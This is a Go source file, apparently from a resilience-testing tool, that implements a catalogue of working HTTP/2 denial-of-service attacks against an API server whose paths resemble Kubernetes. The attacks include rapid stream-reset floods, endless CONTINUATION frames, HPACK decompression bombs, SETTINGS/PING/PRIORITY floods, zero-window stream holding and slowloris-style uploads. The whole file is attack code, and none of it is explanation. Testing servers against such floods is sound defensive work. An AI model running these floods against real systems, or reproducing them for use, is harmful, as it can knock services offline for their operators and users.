package attack

import (
	"bytes"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const preface = http2.ClientPreface

// streams misuse HTTP/2 itself.
var streams = []attack{
	{name: "streams with a window of 0", run: func(a *attacker) {
		a.hold(40, func(int) {
			if c := a.dialHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); c != nil {
				for id := uint32(1); id < 500 && c.request(id, "", "/version", true) == nil; id += 2 {
				}
			}
		})
	}},
	{name: "lists in streams with a window of 0", crowd: true, run: func(a *attacker) {
		a.hold(10, func(int) {
			if c := a.dialHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); c != nil {
				for id := uint32(1); id < 100 && c.request(id, a.token, crowdPath, true) == nil; id += 2 {
				}
			}
		})
	}},
	{name: "streams that are reset at once", run: http2Flood(func(c *http2Conn, id uint32, a *attacker) error {
		if err := c.request(id, a.token, endpointsIn("default"), true); err != nil {
			return err
		}
		return c.WriteRSTStream(id, http2.ErrCodeCancel)
	})},
	{name: "watches that are reset at once", run: http2Flood(func(c *http2Conn, id uint32, a *attacker) error {
		if err := c.request(id, a.token, watchPath, true); err != nil {
			return err
		}
		return c.WriteRSTStream(id, http2.ErrCodeCancel)
	})},
	{name: "streams that are reset by faults", run: http2Flood(func(c *http2Conn, id uint32, a *attacker) error {
		if err := c.request(id, a.token, endpointsIn("default"), true); err != nil {
			return err
		}
		return c.WriteWindowUpdate(id, 1<<31-1) // more than a window may be
	})},
	{name: "header blocks without an end", run: http2Flood(func(c *http2Conn, id uint32, _ *attacker) error {
		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block("", "/livez")}); err != nil {
			return err
		}
		for {
			if err := c.WriteContinuation(id, false, c.encode("x", strings.Repeat("x", 4000))); err != nil {
				return err
			}
		}
	})},
	{name: "header blocks that expand", run: http2Flood(func(c *http2Conn, id uint32, _ *attacker) error {
		// A value of 4,000 bytes enters the table and is then repeated by an index of a byte.
		block := append(c.block("", "/livez"), c.encode("x", strings.Repeat("x", 4000))...)
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 8000)...)
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
	})},
	{name: "SETTINGS without an end", run: http2Flood(func(c *http2Conn, _ uint32, _ *attacker) error {
		return c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 15})
	})},
	{name: "PING without an end", run: http2Flood(func(c *http2Conn, _ uint32, _ *attacker) error { return c.WritePing(false, [8]byte{}) })},
	{name: "PRIORITY without an end", run: http2Flood(func(c *http2Conn, id uint32, _ *attacker) error {
		return c.WritePriority(id, http2.PriorityParam{StreamDep: id + 2, Weight: 1})
	})},
	{name: "empty DATA without an end", run: http2Flood(func(c *http2Conn, id uint32, a *attacker) error {
		if id == 1 {
			if err := c.request(id, a.token, endpointsIn(a.namespace), false); err != nil {
				return err
			}
		}
		return c.WriteData(1, false, nil)
	})},
	{name: "uploads in streams, a byte a second", run: func(a *attacker) {
		a.hold(4, func(int) { a.slowStreams(200) })
	}},
}

// http2Conn is a connection of HTTP/2 whose frames are its user's own.
type http2Conn struct {
	*http2.Framer
	conn    net.Conn
	encoder *hpack.Encoder
	encoded bytes.Buffer
}

// dialHTTP2 opens a connection, whose answers it throws away, or returns nil.
func (a *attacker) dialHTTP2(settings ...http2.Setting) *http2Conn {
	conn := a.dialTLS("h2")
	if conn == nil {
		return nil
	}
	c := &http2Conn{Framer: http2.NewFramer(conn, nil), conn: conn}
	c.encoder = hpack.NewEncoder(&c.encoded)
	_, err := io.WriteString(conn, preface)
	if err != nil || c.WriteSettings(settings...) != nil {
		return nil
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // until the connection ends
	return c
}

func (c *http2Conn) encode(name, value string) []byte {
	c.encoded.Reset()
	_ = c.encoder.WriteField(hpack.HeaderField{Name: name, Value: value}) // a Buffer takes everything
	return bytes.Clone(c.encoded.Bytes())
}

// block is the header block of a request, a POST if there is a body.
func (c *http2Conn) block(token, path string) []byte {
	block := append(c.encode(":method", http.MethodGet), c.encode(":scheme", "https")...)
	block = append(append(block, c.encode(":path", path)...), c.encode(":authority", "berth")...)
	if token != "" {
		block = append(block, c.encode("authorization", "Bearer "+token)...)
	}
	return block
}

// request sends a GET, or, if its body is still to come, a POST.
func (c *http2Conn) request(id uint32, token, path string, ends bool) error {
	block := c.block(token, path)
	if !ends {
		block = bytes.Replace(block, c.encode(":method", http.MethodGet), c.encode(":method", http.MethodPost), 1)
		block = append(block, c.encode("content-type", "application/json")...)
	}
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: ends})
}

// http2Flood calls send with the numbers of new streams on a few connections, opened again
// when the server closes one.
func http2Flood(send func(c *http2Conn, id uint32, a *attacker) error) func(*attacker) {
	return func(a *attacker) {
		a.paced(8, 20, func(int, int) {
			c := a.dialHTTP2()
			if c == nil {
				return
			}
			defer c.conn.Close()
			for id := uint32(1); id < 1<<30; id += 2 {
				if send(c, id, a) != nil {
					return
				}
			}
		})
	}
}

// slowStreams uploads in that many streams of a connection, a byte a second in each.
func (a *attacker) slowStreams(n uint32) {
	c := a.dialHTTP2()
	if c == nil {
		return
	}
	for i := range n {
		if c.request(2*i+1, a.token, endpointsIn(a.namespace), false) != nil {
			return
		}
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		for i := range n {
			if c.WriteData(2*i+1, false, []byte("{")) != nil {
				return
			}
		}
		select {
		case <-a.ctx.Done():
			return
		case <-tick.C:
		}
	}
}
